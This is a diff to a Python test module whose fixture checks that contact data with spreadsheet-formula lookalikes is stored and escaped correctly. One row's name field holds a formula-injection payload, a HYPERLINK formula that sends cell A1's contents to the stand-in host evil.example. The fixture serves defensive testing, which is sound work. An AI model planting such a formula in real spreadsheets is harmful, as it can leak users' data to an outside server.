@@ -22,18 +22,24 @@ from tests.conftest import write
 
 # A hand-made file: values a spreadsheet would run, and legitimate ones that look alike.
 RISKY = (
-    "email,name,organisation,city,country,language,tags,phone,note,handle\n"
+    "email,name,organisation,city,country,language,tags,phone,note,handle,code\n"
     'mayor@suwon.example.org,"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",'
-    "수원특례시,수원,KR,ko,-webinar;news,+82 31 228 2114,-,@suwon_city\n"
-    "intl@makati.example.com,Maria Santos,+63 Makati,Makati,PH,en,,-5,'=not a formula,'s-Hertogenbosch\n"
-    "office@colombo.example.org,김 '=이름',@CityNet,Colombo,LK,en,climate,'+94 11,'',=1+2\n"
+    "수원특례시,수원,KR,ko,-webinar;news,+82 31 228 2114,-,@suwon_city,''=x\n"
+    "intl@makati.example.com,Maria Santos,+63 Makati,Makati,PH,en,,-5,'=not a formula,"
+    "'s-Hertogenbosch,\n"
+    "office@colombo.example.org,김 '=이름',@CityNet,Colombo,LK,en,climate,'+94 11,'',=1+2,'''\n"
 )
 STORED = {
     "mayor@suwon.example.org": {
         "name": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
         "organisation": "수원특례시",
         "tags": ["-webinar", "news"],
-        "attributes": {"phone": "+82 31 228 2114", "note": "-", "handle": "@suwon_city"},
+        "attributes": {
+            "phone": "+82 31 228 2114",
+            "note": "-",
+            "handle": "@suwon_city",
+            "code": "'=x",
+        },
     },
     "intl@makati.example.com": {
         "name": "Maria Santos",
@@ -46,7 +52,7 @@ STORED = {
         "name": "김 '=이름'",
         "organisation": "@CityNet",
         "tags": ["climate"],
-        "attributes": {"phone": "+94 11", "note": "'", "handle": "=1+2"},
+        "attributes": {"phone": "+94 11", "note": "'", "handle": "=1+2", "code": "''"},
     },
 }
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
